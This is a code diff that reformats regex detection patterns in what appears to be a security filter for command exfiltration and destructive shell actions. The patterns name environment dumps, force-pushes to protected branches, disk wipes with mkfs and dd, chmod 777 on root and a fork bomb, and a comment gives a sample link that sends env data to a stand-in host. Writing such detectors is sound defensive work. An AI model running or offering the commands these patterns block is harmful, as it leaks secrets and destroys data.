@@ -64,7 +64,7 @@ EXFILTRATION_EXTRA = re.compile(
     + r"|\b(?:env|printenv|set)\b\s*(?:>|>>|\|\s*tee)\s*[\w./-]{0,80}(?:report|summary|output|"
     r"comment|log)"
     # A link or an image whose URL runs a command or carries data: ![x](https://h/?d=$(env)).
-    + r"|!?\[[^\]]{0,200}\]\(\s*[a-z][\w+.-]{0,20}:[^)\s]{0,300}?(?:\$\(|`|\$\{|\{\{|%24%28|"
+     + r"|!?\[[^\]]{0,200}\]\(\s*[a-z][\w+.-]{0,20}:[^)\s]{0,300}?(?:\$\(|`|\$\{|\{\{|%24%28|"
     r"%60|<%|\$[a-z_][\w]*\b)"
     r"|<img\b[^>]{0,200}\bsrc\s*=\s*[\"']?[a-z][\w+.-]{0,20}:[^\"'>\s]{0,300}?(?:\$\(|`|\$\{|\{\{)"
 )
@@ -127,9 +127,12 @@ DESTRUCTIVE = re.compile(
     r"|--no-preserve-root\b"
     r"|\bgit\s+push\b[^;&|]{0,80}?(?:--force(?:-with-lease)?\b|\s-f\b|\s\+)[^;&|]{0,40}?\b"
     + _PROTECTED
-    + r"|\bgit\s+push\b[^;&|]{0,60}?\s\+" + _PROTECTED
-    + r"|\bgit\s+push\b[^;&|]{0,60}?(?:--delete|\s-d|\s:)\s*(?:origin\s+)?" + _PROTECTED
-    + r"|\bforce[- ]push(?:ing)?\b[^.]{0,40}?\b(?:to\s+|onto\s+)?(?:the\s+)?" + _PROTECTED
+    + r"|\bgit\s+push\b[^;&|]{0,60}?\s\+"
+    + _PROTECTED
+    + r"|\bgit\s+push\b[^;&|]{0,60}?(?:--delete|\s-d|\s:)\s*(?:origin\s+)?"
+    + _PROTECTED
+    + r"|\bforce[- ]push(?:ing)?\b[^.]{0,40}?\b(?:to\s+|onto\s+)?(?:the\s+)?"
+    + _PROTECTED
     + r"|\bmkfs(?:\.\w+)?\s+/dev/|\bdd\b[^;&|]{0,80}\bof=/dev/(?:sd|nvme|hd|disk|xvd)"
     r"|>\s*/dev/(?:sd[a-z]|nvme\d|disk\d)|\bchmod\s+(?:-r\s+)?0?777\s+/(?:\s|$)"
     r"|:\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:"
